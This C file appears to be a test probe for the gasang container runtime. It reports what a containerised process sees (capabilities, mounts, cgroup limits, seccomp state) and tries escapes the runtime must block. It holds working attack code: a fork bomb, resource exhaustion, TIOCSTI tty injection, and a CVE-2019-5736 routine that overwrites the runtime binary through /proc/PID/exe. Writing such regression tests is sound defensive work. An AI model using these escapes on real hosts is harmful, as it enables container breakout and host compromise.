/*
 * probe: a static program the container integration tests run inside
 * containers (under gasang and under runc) to report what the process sees
 * and to try the escapes the runtime must stop. Built by the tests with
 * `gcc -static -O2 -o probe tests/ctr/probe.c`; not part of gasang.
 *
 *   probe report             key=value lines: pid, hostname, id maps, caps, no_new_privs,
 *                            seccomp mode and a denied syscall's errno, mount table,
 *                            masked paths, cgroup limits, cwd, open fds
 *   probe alloc MIB          touch MIB MiB of memory, 1 MiB at a time, printing progress
 *   probe forkbomb N         fork up to N sleeping children; print how many got made
 *   probe cpuhog SECONDS     spin SECONDS of wall time; print the CPU time received (ms)
 *   probe tiocsti            push a byte into fd 0's tty input; print the result
 *   probe fds                the open fds and where they lead
 *   probe cwd                the working directory as the kernel reports it
 *   probe exe-attack SECONDS look for a process running another binary (the runtime
 *                            entering the container), hold its /proc/PID/exe, and try to
 *                            write to it once it can; print what happened
 *   probe recvtty SOCK [INPUT]  act as a --console-socket: receive the pty master, write
 *                            INPUT to it, copy what comes out to stdout until it closes
 *   probe seccomp-listener SOCK ERRNO  act as a seccomp listenerPath: print the state that
 *                            comes with the fd, answer the first notification with -ERRNO
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/prctl.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/time.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <linux/seccomp.h>
#include <time.h>
#include <unistd.h>

static void print_file(const char *key, const char *path)
{
	char buf[4096];
	ssize_t n;
	int fd = open(path, O_RDONLY);

	if (fd < 0) {
		printf("%s=ERR:%s\n", key, strerror(errno));
		return;
	}
	n = read(fd, buf, sizeof(buf) - 1);
	close(fd);
	if (n < 0) {
		printf("%s=ERR:%s\n", key, strerror(errno));
		return;
	}
	buf[n] = '\0';
	/* one line: collapse whitespace runs, newlines to ';' */
	printf("%s=", key);
	for (char *p = buf, sp = 0; *p; p++) {
		if (*p == '\n') {
			if (p[1])
				putchar(';');
			sp = 0;
		} else if (*p == ' ' || *p == '\t') {
			sp = 1;
		} else {
			if (sp)
				putchar(' ');
			sp = 0;
			putchar(*p);
		}
	}
	putchar('\n');
}

static void status_fields(void)
{
	static const char *const keys[] = { "CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb",
					    "NoNewPrivs", "Seccomp" };
	char line[256];
	FILE *f = fopen("/proc/self/status", "r");

	if (!f)
		return;
	while (fgets(line, sizeof(line), f))
		for (size_t i = 0; i < sizeof(keys) / sizeof(keys[0]); i++) {
			size_t n = strlen(keys[i]);

			if (!strncmp(line, keys[i], n) && line[n] == ':') {
				char *v = line + n + 1;

				while (*v == ' ' || *v == '\t')
					v++;
				v[strcspn(v, "\n")] = '\0';
				printf("%s=%s\n", keys[i], v);
			}
		}
	fclose(f);
}

/* mountinfo reduced to "mountpoint fstype per-mount-options" per entry, in order */
static void mounts(void)
{
	char line[4096];
	FILE *f = fopen("/proc/self/mountinfo", "r");

	if (!f)
		return;
	while (fgets(line, sizeof(line), f)) {
		char *field[8], *save = NULL, *dash = strstr(line, " - ");
		int i;

		if (!dash)
			continue;
		*dash = '\0';
		for (i = 0; i < 6; i++)
			field[i] = strtok_r(i ? NULL : line, " ", &save);
		if (!field[5])
			continue;
		printf("mount=%s %s %s\n", field[4], strtok_r(dash + 3, " ", &save), field[5]);
	}
	fclose(f);
}

static void masked(const char *path)
{
	char buf[64];
	ssize_t n;
	int fd = open(path, O_RDONLY);

	if (fd < 0) {
		printf("masked %s=open:%s\n", path, strerror(errno));
		return;
	}
	n = read(fd, buf, sizeof(buf));
	printf("masked %s=read:%zd\n", path, n);
	close(fd);
}

static void list_fds(void)
{
	DIR *d = opendir("/proc/self/fd");
	struct dirent *de;
	char path[64], target[512];
	int self = d ? dirfd(d) : -1;

	printf("fds=");
	while (d && (de = readdir(d))) {
		ssize_t n;

		if (de->d_name[0] == '.' || atoi(de->d_name) == self)
			continue;
		snprintf(path, sizeof(path), "/proc/self/fd/%s", de->d_name);
		n = readlink(path, target, sizeof(target) - 1);
		target[n > 0 ? n : 0] = '\0';
		printf("%s:%s ", de->d_name, target);
	}
	printf("\n");
	if (d)
		closedir(d);
}

static int report(void)
{
	char buf[4096];
	long r;

	printf("pid=%d\n", (int)getpid());
	gethostname(buf, sizeof(buf));
	printf("hostname=%s\n", buf);
	print_file("uid_map", "/proc/self/uid_map");
	print_file("gid_map", "/proc/self/gid_map");
	printf("uid=%d gid=%d euid=%d\n", (int)getuid(), (int)getgid(), (int)geteuid());
	status_fields();
	/* the compare bundles deny getpriority with errno 42 */
	errno = 0;
	r = syscall(SYS_getpriority, PRIO_PROCESS, 0);
	printf("getpriority=%ld errno=%d\n", r, r < 0 ? errno : 0);
	mounts();
	masked("/proc/kcore");
	masked("/proc/keys");
	masked("/sys/firmware");
	print_file("memory.limit", "/sys/fs/cgroup/memory/memory.limit_in_bytes");
	print_file("memsw.limit", "/sys/fs/cgroup/memory/memory.memsw.limit_in_bytes");
	print_file("pids.max", "/sys/fs/cgroup/pids/pids.max");
	print_file("cfs_quota", "/sys/fs/cgroup/cpu/cpu.cfs_quota_us");
	print_file("cfs_period", "/sys/fs/cgroup/cpu/cpu.cfs_period_us");
	print_file("cpu.shares", "/sys/fs/cgroup/cpu/cpu.shares");
	print_file("blkio.read_bps", "/sys/fs/cgroup/blkio/blkio.throttle.read_bps_device");
	print_file("cgroup2.memory.max", "/sys/fs/cgroup/memory.max");
	print_file("cgroup2.pids.max", "/sys/fs/cgroup/pids.max");
	print_file("cgroup2.cpu.max", "/sys/fs/cgroup/cpu.max");
	print_file("rlimit_nofile", "/proc/self/limits");
	printf("cwd=%s\n", getcwd(buf, sizeof(buf)) ? buf : strerror(errno));
	list_fds();
	return 0;
}

static int alloc(long mib)
{
	for (long i = 0; i < mib; i++) {
		char *p = malloc(1 << 20);

		if (!p) {
			printf("malloc failed at %ld MiB\n", i);
			return 1;
		}
		memset(p, 1, 1 << 20);
		if (i % 8 == 0) {
			printf("allocated %ld MiB\n", i + 1);
			fflush(stdout);
		}
	}
	printf("allocated all %ld MiB\n", mib);
	return 0;
}

static int forkbomb(long n)
{
	long made = 0;

	for (long i = 0; i < n; i++) {
		pid_t p = fork();

		if (p < 0)
			break;
		if (p == 0) {
			pause();
			_exit(0);
		}
		made++;
	}
	printf("forked=%ld errno=%d\n", made, errno);
	fflush(stdout);
	kill(0, SIGKILL);
	return 0;
}

static int cpuhog(double secs)
{
	struct timespec a, b;
	struct rusage ru;
	volatile unsigned long x = 0;

	clock_gettime(CLOCK_MONOTONIC, &a);
	do {
		for (int i = 0; i < 100000; i++)
			x += (unsigned long)i;
		clock_gettime(CLOCK_MONOTONIC, &b);
	} while ((b.tv_sec - a.tv_sec) + (b.tv_nsec - a.tv_nsec) / 1e9 < secs);
	getrusage(RUSAGE_SELF, &ru);
	printf("cpu_ms=%ld wall_ms=%ld\n",
	       ru.ru_utime.tv_sec * 1000 + ru.ru_utime.tv_usec / 1000 + ru.ru_stime.tv_sec * 1000 +
		       ru.ru_stime.tv_usec / 1000,
	       (long)((b.tv_sec - a.tv_sec) * 1000 + (b.tv_nsec - a.tv_nsec) / 1000000));
	return 0;
}

static int tiocsti(void)
{
	char c = '#';

	if (ioctl(0, TIOCSTI, &c) == 0)
		printf("tiocsti=INJECTED\n");
	else
		printf("tiocsti=refused errno=%d (%s)\n", errno, strerror(errno));
	return 0;
}

/* CVE-2019-5736: overwrite the runtime binary through /proc/PID/exe of a process entering us. */
static int exe_attack(double secs)
{
	struct timespec a, b;
	char self[512], path[64], target[512];
	ssize_t n = readlink("/proc/self/exe", self, sizeof(self) - 1);
	int held = -1;

	self[n > 0 ? n : 0] = '\0';
	clock_gettime(CLOCK_MONOTONIC, &a);
	for (;;) {
		clock_gettime(CLOCK_MONOTONIC, &b);
		if ((b.tv_sec - a.tv_sec) + (b.tv_nsec - a.tv_nsec) / 1e9 > secs)
			break;
		if (held < 0) {
			DIR *d = opendir("/proc");
			struct dirent *de;

			while (d && (de = readdir(d))) {
				int pid = atoi(de->d_name);

				if (pid <= 1 || pid == getpid())
					continue;
				snprintf(path, sizeof(path), "/proc/%d/exe", pid);
				n = readlink(path, target, sizeof(target) - 1);
				if (n <= 0)
					continue;
				target[n] = '\0';
				if (!strcmp(target, self) || strstr(target, "busybox"))
					continue;
				held = open(path, O_PATH);
				if (held >= 0) {
					printf("holding %s -> %s\n", path, target);
					fflush(stdout);
					break;
				}
			}
			if (d)
				closedir(d);
			continue;
		}
		/* once nothing executes it any more, a write-open succeeds unless it is sealed */
		snprintf(path, sizeof(path), "/proc/self/fd/%d", held);
		int w = open(path, O_WRONLY | O_TRUNC);

		if (w >= 0) {
			ssize_t r = write(w, "#!/bin/sh\necho pwned\n", 21);

			printf("exe-attack=%s errno=%d\n", r == 21 ? "OVERWROTE" : "write-refused",
			       r == 21 ? 0 : errno);
			close(w);
			return 0;
		}
		if (errno != ETXTBSY) {
			printf("exe-attack=open-refused errno=%d (%s)\n", errno, strerror(errno));
			return 0;
		}
		usleep(1000);
	}
	printf("exe-attack=%s\n", held < 0 ? "nothing-found" : "still-busy");
	return 0;
}

static int recvtty(const char *sockpath, const char *input)
{
	struct sockaddr_un sa = { .sun_family = AF_UNIX };
	union {
		struct cmsghdr h;
		char buf[CMSG_SPACE(sizeof(int))];
	} c;
	char name[256], buf[4096];
	struct iovec iov = { name, sizeof(name) - 1 };
	struct msghdr msg = { .msg_iov = &iov, .msg_iovlen = 1, .msg_control = c.buf,
			      .msg_controllen = sizeof(c.buf) };
	int ls, s, master = -1;
	ssize_t n;

	ls = socket(AF_UNIX, SOCK_STREAM, 0);
	snprintf(sa.sun_path, sizeof(sa.sun_path), "%s", sockpath);
	unlink(sockpath);
	if (bind(ls, (struct sockaddr *)&sa, sizeof(sa)) < 0 || listen(ls, 1) < 0) {
		perror("recvtty: bind");
		return 1;
	}
	printf("listening\n");
	fflush(stdout);
	s = accept(ls, NULL, NULL);
	if (s < 0 || recvmsg(s, &msg, 0) < 0) {
		perror("recvtty: recvmsg");
		return 1;
	}
	for (struct cmsghdr *cm = CMSG_FIRSTHDR(&msg); cm; cm = CMSG_NXTHDR(&msg, cm))
		if (cm->cmsg_type == SCM_RIGHTS)
			memcpy(&master, CMSG_DATA(cm), sizeof(int));
	if (master < 0) {
		fprintf(stderr, "recvtty: no fd\n");
		return 1;
	}
	printf("got pty master\n");
	fflush(stdout);
	if (input && write(master, input, strlen(input)) < 0)
		perror("recvtty: write");
	for (;;) {
		struct pollfd p = { master, POLLIN, 0 };

		if (poll(&p, 1, 20000) <= 0)
			break;
		n = read(master, buf, sizeof(buf));
		if (n <= 0)
			break;
		fwrite(buf, 1, (size_t)n, stdout);
		fflush(stdout);
	}
	return 0;
}

static int seccomp_listener(const char *sockpath, int err)
{
	struct sockaddr_un sa = { .sun_family = AF_UNIX };
	union {
		struct cmsghdr h;
		char buf[CMSG_SPACE(sizeof(int))];
	} c;
	char state[8192];
	struct iovec iov = { state, sizeof(state) - 1 };
	struct msghdr msg = { .msg_iov = &iov, .msg_iovlen = 1, .msg_control = c.buf,
			      .msg_controllen = sizeof(c.buf) };
	struct seccomp_notif req;
	struct seccomp_notif_resp resp;
	int ls, s, fd = -1;
	ssize_t n;

	ls = socket(AF_UNIX, SOCK_STREAM, 0);
	snprintf(sa.sun_path, sizeof(sa.sun_path), "%s", sockpath);
	unlink(sockpath);
	if (bind(ls, (struct sockaddr *)&sa, sizeof(sa)) < 0 || listen(ls, 1) < 0) {
		perror("seccomp-listener: bind");
		return 1;
	}
	printf("listening\n");
	s = accept(ls, NULL, NULL);
	n = s < 0 ? -1 : recvmsg(s, &msg, 0);
	if (n < 0) {
		perror("seccomp-listener: recvmsg");
		return 1;
	}
	state[n] = '\0';
	for (struct cmsghdr *cm = CMSG_FIRSTHDR(&msg); cm; cm = CMSG_NXTHDR(&msg, cm))
		if (cm->cmsg_type == SCM_RIGHTS)
			memcpy(&fd, CMSG_DATA(cm), sizeof(int));
	printf("state=%s\n", state);
	if (fd < 0) {
		printf("no fd\n");
		return 1;
	}
	memset(&req, 0, sizeof(req));
	if (ioctl(fd, SECCOMP_IOCTL_NOTIF_RECV, &req) < 0) {
		perror("seccomp-listener: NOTIF_RECV");
		return 1;
	}
	memset(&resp, 0, sizeof(resp));
	resp.id = req.id;
	resp.error = -err;
	if (ioctl(fd, SECCOMP_IOCTL_NOTIF_SEND, &resp) < 0) {
		perror("seccomp-listener: NOTIF_SEND");
		return 1;
	}
	printf("answered syscall %d of pid %u\n", req.data.nr, req.pid);
	return 0;
}

int main(int argc, char **argv)
{
	char buf[4096];

	setvbuf(stdout, NULL, _IOLBF, 0);
	if (argc < 2 || !strcmp(argv[1], "report"))
		return report();
	if (!strcmp(argv[1], "alloc") && argc > 2)
		return alloc(atol(argv[2]));
	if (!strcmp(argv[1], "forkbomb") && argc > 2)
		return forkbomb(atol(argv[2]));
	if (!strcmp(argv[1], "cpuhog") && argc > 2)
		return cpuhog(atof(argv[2]));
	if (!strcmp(argv[1], "tiocsti"))
		return tiocsti();
	if (!strcmp(argv[1], "fds")) {
		list_fds();
		return 0;
	}
	if (!strcmp(argv[1], "cwd")) {
		printf("cwd=%s\n", getcwd(buf, sizeof(buf)) ? buf : strerror(errno));
		return 0;
	}
	if (!strcmp(argv[1], "exe-attack") && argc > 2)
		return exe_attack(atof(argv[2]));
	if (!strcmp(argv[1], "seccomp-listener") && argc > 3)
		return seccomp_listener(argv[2], atoi(argv[3]));
	if (!strcmp(argv[1], "recvtty") && argc > 2)
		return recvtty(argv[2], argc > 3 ? argv[3] : NULL);
	fprintf(stderr, "probe: unknown command\n");
	return 2;
}
